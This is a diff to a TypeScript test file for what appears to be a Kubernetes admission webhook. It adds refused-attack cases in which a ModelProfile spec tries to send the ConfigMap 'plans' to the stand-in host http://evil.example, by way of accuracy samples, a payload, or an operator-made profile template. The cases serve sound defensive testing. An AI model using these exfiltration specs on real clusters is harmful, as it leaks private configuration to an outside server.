@@ -205,6 +205,8 @@ export const refusedBySchema: readonly RefusedAttack[] = [
   },
 ];
 
+const samples = { dataset: { configMapKeyRef: { name: 'plans', key: 'x' } }, metric: 'Top1' };
+
 /** What somebody who may create Pods could do without us; who may not is refused at admission. */
 export const refusedToAuthors: readonly RefusedAttack[] = [
   { name: 'a strong service account of the namespace', spec: { serviceAccountName: 'deployer' }, words: /may not run any as "deployer"/ },
@@ -237,7 +239,24 @@ export const refusedToAuthors: readonly RefusedAttack[] = [
     name: 'to have a ConfigMap sent to a server of their own',
     kind: 'ModelProfile',
     spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
-    words: /neither read the ConfigMap "plans"/,
+    words: /spec\.payload\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
+  },
+  {
+    name: 'to have a ConfigMap sent as samples',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'http://evil.example', modelName: 'x' }, accuracy: samples },
+    words: /spec\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
+  },
+  {
+    name: 'to have a ConfigMap sent as samples beside a payload of their own',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { json: '{}' }, accuracy: samples },
+    words: /spec\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
+  },
+  {
+    name: 'to have a ConfigMap sent as samples by a profile that the operator makes',
+    spec: { profile: { auto: true, template: { sweep: { concurrency: [1] }, accuracy: samples } } },
+    words: /spec\.profile\.template\.accuracy\.dataset\.configMapKeyRef: .*neither read the ConfigMap "plans"/,
   },
   { name: 'a container of their own', spec: transformer(), words: /may not bring a container of your own/ },
   { name: 'to leave the service mesh', spec: annotation('sidecar.istio.io/inject'), words: /which other programs act on/ },
